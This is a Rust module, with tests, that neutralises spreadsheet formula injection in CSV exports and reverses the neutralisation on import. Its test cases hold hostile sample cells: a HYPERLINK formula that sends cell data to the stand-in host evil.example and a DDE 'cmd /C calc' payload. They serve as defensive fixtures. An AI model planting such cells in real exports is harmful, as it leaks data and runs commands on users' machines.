//! Cells that a spreadsheet would run. Every CSV export writes a cell that starts with `=`,
//! `+`, `-`, `@`, a tab or a carriage return (OWASP's list) with a `'` in front, so a value such
//! as `=HYPERLINK(…)` arrives as text, not a formula; a cell of quotes before such a character
//! gets one more quote, so the import can take exactly one away and export → import → export
//! gives the same file. A number in E.164 form (`+` and digits only) is left as it is: no
//! spreadsheet can make it anything but that number. No I/O; used by every export and the import.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn is_e164(cell: &str) -> bool {
    cell.strip_prefix('+')
        .is_some_and(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()))
}

/// Whether `cell`, after any leading quotes, starts with a trigger.
fn quoted_trigger(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell as an export writes it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if quoted_trigger(cell) && !is_e164(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as the import reads it: one `'` in front of a neutralised cell taken away.
pub fn read_back(cell: &str) -> Cow<'_, str> {
    match cell.strip_prefix('\'') {
        Some(rest) if quoted_trigger(rest) => Cow::Borrowed(rest),
        _ => Cow::Borrowed(cell),
    }
}

/// A row of cells as an export writes them.
pub fn neutralise_row<I, S>(cells: I) -> Vec<String>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    cells
        .into_iter()
        .map(|c| neutralise(c.as_ref()).into_owned())
        .collect()
}

/// A record as the import reads it; untouched (no copy) when no cell was neutralised.
pub fn read_back_record(record: csv::StringRecord) -> csv::StringRecord {
    if !record.iter().any(|cell| cell.starts_with('\'')) {
        return record;
    }
    record.iter().map(|cell| read_back(cell)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")",
                "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("+442071234567", "+442071234567"),
            ("contoso", "contoso"),
            ("it's", "it's"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
            assert_eq!(read_back(written), cell, "{written:?}");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]

        /// Whatever a cell holds, its export never starts a formula and reads back to itself.
        #[test]
        fn every_cell_round_trips_and_none_runs(cell in prop_oneof![
            any::<String>(),
            "['=+\\-@\t\r a-z0-9(),\"]{0,12}",
        ]) {
            let written = neutralise(&cell);
            prop_assert!(!written.starts_with(TRIGGERS) || is_e164(&written));
            prop_assert_eq!(read_back(&written), cell.as_str());
        }
    }
}
